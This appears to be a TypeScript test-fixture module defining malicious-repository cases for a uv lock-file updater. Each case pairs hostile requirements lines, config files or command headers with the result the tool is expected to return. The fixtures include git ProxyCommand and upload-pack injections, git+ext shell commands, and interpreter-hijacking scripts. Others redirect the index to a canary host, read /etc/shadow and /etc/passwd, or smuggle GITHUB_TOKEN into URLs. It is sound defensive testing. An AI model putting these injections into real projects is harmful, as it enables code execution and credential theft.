/** Repositories that mean harm by what they say, not by what they build. Each lies in a folder of its own. */
import { join } from 'node:path';
import type { ReasonCode } from '../../../src/model.ts';
import type { Files } from '../folder.ts';
import { uvLock } from './arena.ts';
import type { World } from './world.ts';

export interface Case {
  readonly name: string;
  /** Made all the same, since what was said is not heeded; or why not. */
  readonly expected: 'updated' | ReasonCode;
  /** With the names in capitals for what only a running test knows. */
  readonly files: Files;
}

export function lockOfCase({ name }: Case): string {
  return `cases/${name}/requirements.txt`;
}

/** A locked `plain`, and what is said beside it. */
function locked(expected: Case['expected'], name: string, files: Files): Case {
  const usual = { 'requirements.in': 'plain\n', 'requirements.txt': uvLock('plain==0.9') };
  return { name, expected, files: { ...usual, ...files } };
}

function input(expected: Case['expected'], name: string, line: string): Case {
  return locked(expected, name, { 'requirements.in': `plain\n${line}\n` });
}

function header(expected: Case['expected'], name: string, options: string): Case {
  const lock = uvLock('plain==0.9').replace('.in -o', `.in ${options} -o`);
  return locked(expected, name, { 'requirements.txt': lock });
}

const PROJECT = '[project]\nname = "a"\nversion = "1"\n';
const SCRIPT = '#!/bin/sh\ntouch PWNED\nexec python3 "$@"\n';
const MODULE = 'open("PWNED", "w")\n';

export const CASES: readonly Case[] = [
  // Settings beside the lock.
  locked('network-refused', 'uv-toml-index', {
    'uv.toml': 'index-url = "http://CANARY/simple"\nextra-index-url = ["http://CANARY/extra"]\n',
  }),
  locked('network-refused', 'uv-toml-find-links', {
    'uv.toml': 'find-links = ["http://CANARY/links", "file:///etc"]\n',
  }),
  locked('updated', 'uv-toml-keyring', { 'uv.toml': 'keyring-provider = "subprocess"\n', keyring: SCRIPT }),
  locked('updated', 'uv-toml-cache', { 'uv.toml': 'cache-dir = "OUTSIDE/cache"\n' }),
  locked('updated', 'uv-toml-mirror', {
    'uv.toml': 'python-downloads = "automatic"\npython-install-mirror = "http://CANARY/python"\n',
    '.python-version': '3.14\n',
  }),
  locked('updated', 'uv-toml-insecure', {
    'uv.toml': 'allow-insecure-host = ["CANARY"]\nnative-tls = true\n',
  }),
  locked('updated', 'uv-toml-link', { 'uv.toml': { link: '/etc/passwd' } }),
  locked('network-refused', 'pyproject-index', {
    'pyproject.toml': `${PROJECT}[[tool.uv.index]]\nurl = "http://CANARY/simple"\ndefault = true\n[tool.uv.pip]\nindex-url = "http://CANARY/pip"\n`,
  }),
  locked('updated', 'pyproject-cache-keys', {
    'pyproject.toml': `${PROJECT}[tool.uv]\ncache-keys = [{ file = "/etc/**" }, { env = "GITHUB_TOKEN" }, { git = { commit = true } }]\n`,
  }),
  locked('updated', 'pip-conf', {
    'pip.conf': '[global]\nindex-url = http://CANARY/simple\nproxy = http://CANARY\ncert = /etc/shadow\n',
    'setup.cfg': '[easy_install]\nindex_url = http://CANARY/simple\n',
  }),
  locked('updated', 'dot-env', {
    '.env':
      'UV_DEFAULT_INDEX=http://CANARY/simple\nPIP_INDEX_URL=http://CANARY/simple\nHTTPS_PROXY=http://CANARY\nGIT_SSH_COMMAND=touch PWNED\n',
    '.netrc': 'machine 127.0.0.1 login a password b\n',
  }),
  locked('updated', 'python-is-script', {
    '.python-version': './python3\n',
    python3: SCRIPT,
    'bin/python3': SCRIPT,
  }),
  locked('updated', 'modules-of-the-interpreter', {
    'sitecustomize.py': MODULE,
    'usercustomize.py': MODULE,
    'json.py': MODULE,
  }),
  // Lines of an input.
  input('network-refused', 'index', '--index-url http://CANARY/simple'),
  input('network-refused', 'extra-index', '--extra-index-url http://CANARY/simple'),
  input('network-refused', 'extra-index-secured', '--extra-index-url https://CANARY/simple'),
  input('network-refused', 'extra-index-decimal', '--extra-index-url http://2130706433:PORT/simple'),
  input(
    'network-refused',
    'extra-index-metadata',
    '--extra-index-url http://169.254.169.254/latest/meta-data',
  ),
  input('network-refused', 'find-links', '--find-links http://CANARY/links'),
  input('network-refused', 'trusted-host', '--extra-index-url https://CANARY/simple\n--trusted-host CANARY'),
  input('network-refused', 'include-by-url', '-r http://CANARY/more.in'),
  input('network-refused', 'constraint-by-url', '-c http://CANARY/constraints.txt'),
  input('network-refused', 'direct-url', 'evil @ http://CANARY/evil-1.0.tar.gz'),
  input('network-refused', 'git-loopback', 'evil @ git+http://CANARY/evil.git'),
  input('network-refused', 'git-ssh-loopback', 'evil @ git+ssh://git@CANARY/evil.git'),
  input('manifest-unreadable', 'git-command', 'evil @ git+ext::sh -c touch% PWNED'),
  input(
    'git-host-unreachable',
    'git-proxy-command',
    'evil @ git+ssh://-oProxyCommand=touch%20ESCAPED/evil.git',
  ),
  input(
    'network-refused',
    'git-upload-pack',
    'evil @ git+http://CANARY/evil.git@--upload-pack=touch%20ESCAPED',
  ),
  input('path-outside-repository', 'git-file', 'evil @ git+file://OUTSIDE'),
  input('updated', 'token-in-index', '--extra-index-url http://bot:${GITHUB_TOKEN}@INDEX/simple'),
  input(
    'url-unreachable',
    'token-in-url',
    'evil @ http://INDEX/${GITHUB_TOKEN}/${DATABASE_URL}/evil-1.0.tar.gz',
  ),
  input(
    'extra-index-unreachable',
    'credential-of-another',
    '--extra-index-url https://pypi.other.example/simple',
  ),
  // Options of the command.
  header('option-refused', 'header-config', '--config-file OUTSIDE/uv.toml'),
  header('updated', 'header-python', '--python ./python3'),
  header('updated', 'header-cache', '--cache-dir OUTSIDE/cache'),
  header('network-refused', 'header-index', '--index-url http://CANARY/simple'),
  header('updated', 'header-keyring', '--keyring-provider subprocess'),
  header('updated', 'header-output', '--output-file PWNED'),
  header('updated', 'header-command', '; touch PWNED ;'),
];

/** The files of all cases, with the names filled in. */
export function filesOfCases({ canaries, index, outside }: World): Files {
  const pwned = join(outside, 'pwned');
  const names: Readonly<Record<string, string>> = {
    CANARY: `127.0.0.1:${canaries.port}`,
    PORT: String(canaries.port),
    INDEX: `127.0.0.1:${index.port}`,
    OUTSIDE: outside,
    ESCAPED: encodeURIComponent(pwned),
    PWNED: pwned,
  };
  const fill = (content: Files[string]): Files[string] =>
    typeof content === 'string'
      ? content.replaceAll(/\b(?:CANARY|PORT|INDEX|OUTSIDE|ESCAPED|PWNED)\b/gu, (name) => names[name] ?? name)
      : content;
  return Object.fromEntries(
    CASES.flatMap(({ name, files }) =>
      Object.entries(files).map(([path, content]) => [`cases/${name}/${path}`, fill(content)]),
    ),
  );
}
